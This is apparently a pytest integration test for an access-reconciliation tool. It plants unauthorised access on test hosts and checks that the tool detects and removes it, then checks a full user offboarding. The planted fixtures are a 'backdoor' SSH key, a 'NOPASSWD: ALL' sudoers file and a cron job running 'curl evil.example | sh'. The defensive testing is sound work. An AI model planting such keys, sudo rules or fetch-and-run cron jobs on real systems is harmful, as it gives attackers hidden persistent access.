"""Real hosts: what nobody granted is found, taken away and seen gone; a leaver leaves nothing."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from opskit.access.deciding import Word, decide
from opskit.access.departures import leaving, offboard
from opskit.access.hosts.publickeys import public_key
from opskit.access.reconcile import look
from opskit.access.registry import Registry
from opskit.access.repair import repair
from opskit.access.requesting import request
from opskit.access.settling import start_now
from opskit.access.sudoers.render import render_grant
from opskit.access.targets.linux import LinuxKind
from opskit.access.targets.linux.state import reader
from opskit.access.workplace import Workplace
from opskit.core.clock import SystemClock
from opskit.core.errors import ExitCode
from opskit.outside.database import Database, sqlite_url
from opskit.records.leases import Leases
from opskit.records.ledger import Ledger, entries
from opskit.records.outbox import Outbox
from tests.access.targets.deputy import Deputy, Key
from tests.access.world import ask, registry
from tests.rig.hosts import Fleet

NAMES = ("web1", "web2", "web3")
BOB = "bob-admin"  # no account of this machine may be in the way


@dataclass(frozen=True)
class Site:
    """Three hosts, the people, and opskit as bob runs it."""

    hosts: Fleet
    keys: dict[str, Key]
    work: Workplace


def _files(keys: dict[str, Key], control: str) -> Registry:
    def entry(name: str, **more: object) -> dict[str, object]:
        return {"name": name, "team": "web", "keys": [{"key": keys[name].public}], **more}

    people = {
        "people": {
            "alice": entry("alice"), "eve": entry("eve", ends="2026-01-31"),
            "bob": {"name": "Bob", "team": "platform"},
        },
        "service_accounts": {
            "opskit": {"purpose": "Logs in to hosts.", "owner": "bob", "keys": [{"key": control}]},
        },
    }  # fmt: skip
    target = {"kind": "linux", "hosts": "all", "administrators": ["root", BOB]}
    policy = {"separation": [], "break_glass": None,
              "rules": [{"name": "web", "who": ["web"], "roles": ["nginx-operator"]}]}  # fmt: skip
    return registry(
        people=people, policy=policy, targets={"targets": {"web": target, "staging": target}}
    )


@pytest.fixture(scope="module")
def site(own_fleet: Fleet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    home = tmp_path_factory.mktemp("home")
    keys = {name: Key.made(home / name) for name in ("alice", "eve", "stranger")}
    control = own_fleet.key.with_name(own_fleet.key.name + ".pub").read_text().strip()
    files, clock = _files(keys, control), SystemClock()
    database = Database.open(sqlite_url(home / "opskit.db"))
    administrators = dict.fromkeys(NAMES, ("root", BOB))
    kind = LinuxKind(
        (own_fleet.inventory,), home, home / "runs",
        {**os.environ, "HOME": str(home), "ANSIBLE_TIMEOUT": "5"}, clock, render_grant,
        reader(frozenset()), administrators, rollback_seconds=30,
    )  # fmt: skip
    work = Workplace(
        files, database, Ledger(clock, "person:bob"), Leases(clock), clock, ZoneInfo("UTC"),
        Outbox(database, clock), lambda _: kind, lambda _: NAMES, {}, user="bob",
    )  # fmt: skip
    for host in own_fleet:
        host.run(("useradd", "-m", "-p", "*", BOB))
    yield Site(own_fleet, keys, work)
    database.close()


def test_what_nobody_granted_is_found_taken_away_and_seen_gone(site: Site) -> None:
    web1, web2, web3 = site.hosts
    web1.run(("useradd", "-m", "-p", "*", "carol"))
    ssh = "install -d -m 700 -o carol ~carol/.ssh && cat > ~carol/.ssh/authorized_keys"
    web1.run(("sh", "-c", f"{ssh} && chown carol ~carol/.ssh/authorized_keys"),
             f"{site.keys['stranger'].public} backdoor\n")  # fmt: skip
    web2.run(("useradd", "-m", "-p", "*", "carol"))
    web2.write("/etc/sudoers.d/tmp", "carol ALL=(ALL) NOPASSWD: ALL\n")
    web2.run(("chmod", "440", "/etc/sudoers.d/tmp"))
    web3.run(("useradd", "-m", "-p", "$y$j9T$set", "-s", "/bin/bash", "eve"))
    web3.run(("crontab", "-u", "eve", "-"), "* * * * * curl evil.example | sh\n")
    deputy = Deputy(web1)
    assert deputy.ssh(site.keys["stranger"], "carol", "true").returncode == 0

    before = look(site.work)

    assert before.unseen == ()
    assert before.not_evaluated == ()
    told = {(one.place, one.finding.rule, one.finding.subject) for one in before.found}
    stranger = public_key(site.keys["stranger"].public).fingerprint
    assert told == {
        ("web1", "SSH-KEY-UNKNOWN", stranger),
        ("web2", "SUDO-UNMANAGED", "carol"),
        ("web3", "ACC-LEAVER", "eve"),
    }

    done = repair(site.work, before)

    assert [one.why for one in done.left] == []
    assert len(done.settled) == 4  # eve has a crontab, and an account that is open
    assert done.after.found == ()
    assert done.after.unseen == ()
    assert deputy.ssh(site.keys["stranger"], "carol", "true").returncode == 255
    assert "NOPASSWD" not in web2.run(("sudo", "-l", "-U", "carol")).stdout
    assert web3.run(("crontab", "-u", "eve", "-l")).returncode != 0
    assert web3.run(("getent", "shadow", "eve")).stdout.startswith("eve:!")


def test_an_offboarding_of_somebody_at_work_leaves_nothing(site: Site) -> None:
    alice = replace(site.work, user="alice", ledger=Ledger(site.work.clock, "person:alice"))
    asked = request(alice, ask(role="nginx-operator")).request
    waiting = request(alice, ask(role="nginx-operator", targets=("staging",))).request
    grant = decide(site.work, asked.id, Word("bob", "approve")).grant
    assert grant is not None
    start_now(site.work, grant)
    deputy = Deputy(site.hosts["web1"])
    words = (*deputy.ssh_words(site.keys["alice"], "alice"), "sleep 600 & echo there; wait")
    session = subprocess.Popen(words, stdout=subprocess.PIPE, text=True)
    assert session.stdout is not None
    assert session.stdout.readline() == "there\n"

    done = offboard(site.work, leaving(site.work, "alice"), "left the company")

    assert done.exit_code is ExitCode.OK
    assert [one.id for one in done.withdrawn] == [waiting.id]
    assert {one.place for one in done.rows} == set(NAMES)
    assert all(one.gone_at is not None for one in done.rows)
    assert session.wait(10) == 255
    session.stdout.close()
    assert deputy.ssh(site.keys["alice"], "alice", "true").returncode == 255
    for host in site.hosts:
        assert "sleep 600" not in host.run(("ps", "-u", "alice", "-o", "args")).stdout
        assert not Path(host.root, "etc/sudoers.d", f"opskit-{grant.name}").exists()
    with site.work.database.read() as connection:
        kinds = [one.kind for one in entries(connection)]
    assert kinds[-1] == "person.gone"
    assert kinds.index("person.offboarding") < kinds.index("grant.revoking")
